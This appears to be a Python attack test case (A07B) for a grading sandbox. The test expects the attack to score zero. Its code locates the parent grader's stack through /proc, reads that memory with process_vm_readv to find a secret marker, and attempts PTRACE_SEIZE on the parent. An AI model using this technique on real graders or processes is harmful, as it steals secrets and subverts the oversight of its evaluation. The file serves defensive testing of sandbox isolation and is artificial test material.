# attack: A07B reads the grader's memory with process_vm_readv, and asks to trace it
# side effect: the grader's secret is told
# expect: score <= 0
import ctypes
import os


class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]


NEEDLE = b"KIT_ATTACK_" + b"SECRET="  # in two pieces, so that it is not found in this file's own text
libc = ctypes.CDLL(None, use_errno=True)
own, size = ctypes.create_string_buffer(2**20), 2**20
found = b""
# Where the stack is: of this process if the grader's maps are closed; the layout is random, so 4 MiB are tried.
try:
    with open(f"/proc/{os.getppid()}/maps") as maps:
        stack = next(line for line in maps if "[stack]" in line)
except OSError:
    stack = "7ffc00000000-7ffc00400000"
start, end = (int(number, 16) for number in stack.split()[0].split("-"))
for base in range(max(start, end - 4 * size), end, size):
    here, there = Piece(ctypes.addressof(own), min(size, end - base)), Piece(base, min(size, end - base))
    if libc.process_vm_readv(os.getppid(), ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
        at = own.raw.find(NEEDLE)
        found = own.raw[at : at + 40] if at >= 0 else found
PTRACE_SEIZE, PTRACE_DETACH = 0x4206, 17  # seizing does not stop it
if libc.ptrace(PTRACE_SEIZE, os.getppid(), None, None) == 0:
    found += b" loot: traced"
raise AssertionError(f"found: {found!r}")
